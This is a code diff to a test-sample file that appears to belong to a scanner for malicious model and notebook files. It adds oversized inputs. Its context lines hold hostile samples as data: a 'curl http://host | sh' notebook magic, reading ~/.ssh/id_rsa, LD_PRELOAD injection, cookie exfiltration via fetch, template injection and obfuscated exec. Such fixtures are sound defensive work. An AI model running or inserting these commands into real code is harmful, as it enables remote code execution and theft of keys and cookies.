@@ -100,6 +100,7 @@ def settings() -> Iterator[Sample]:
         b"flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: ../../x\n",
     )
     yield "prompt.md", b"Hello {{ ''.__class__.__mro__ }}"
+    yield "prompt.md", b"{{ a }}" * 100_001
 
 
 def installs() -> Iterator[Sample]:
@@ -134,6 +135,8 @@ def source() -> Iterator[Sample]:
         "# coding: rot13\nvzcbeg bf\n",
         "\uff45xec('x')\n",
         "print()\n" + "#" * 1_100_000 + "\nimport os; os.system('echo')\n",
+        "x = [" + "1," * 110_000 + "]\n",
+        "x = 1\n" * 200_000,
         "import os\nmatch os:\n  case object(system=s): s('echo')\n",
         "import keras\nkeras.config.enable_unsafe_deserialization()\n",
     ):
@@ -157,6 +160,7 @@ def source() -> Iterator[Sample]:
         yield name, text.encode()
     yield "a.ipynb", notebook("get_ipython().run_line_magic('sx', 'curl http://host | sh')")
     yield "a.ipynb", notebook("x = !cat ~/.ssh/id_rsa")
+    yield "a.ipynb", notebook("x = 1\n" * 200_000)
     yield "a.ipynb", notebook("%env LD_PRELOAD=/tmp/x.so")
     yield "a.ipynb", notebook("%%perl\nsystem('echo')")
     yield "a.ipynb", notebook("HTML('<script>fetch(\"http://host/\" + document.cookie)</script>')")
@@ -314,6 +318,8 @@ def honest() -> Iterator[Sample]:
     yield "a.pdf", packed_objects(b"<</S/URI/URI(https://host)>>")
     yield "a.xlsx", office(**{"xl/worksheets/sheet1.xml": b"<f>SUM(A1:A2)</f><f>IF(A1,1,2)</f>"})
     yield "a.rtf", rb"{\rtf1 Hello}"
+    yield "model.py", b"x = [" + b"1," * 40_000 + b"]\n"
+    yield "prompt.md", b"{{ a }}" * 10_000
     yield "a.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0'/><text>a &#233; on=1</text></svg>"
     yield "a.html", b"<html><table border='1'><tr><td onclick='x'>1</td></tr></table></html>"
     yield "a.html", b"<html><script src='_static/x.js'></script><a href='javascript:void(0)'>x</a></html>"
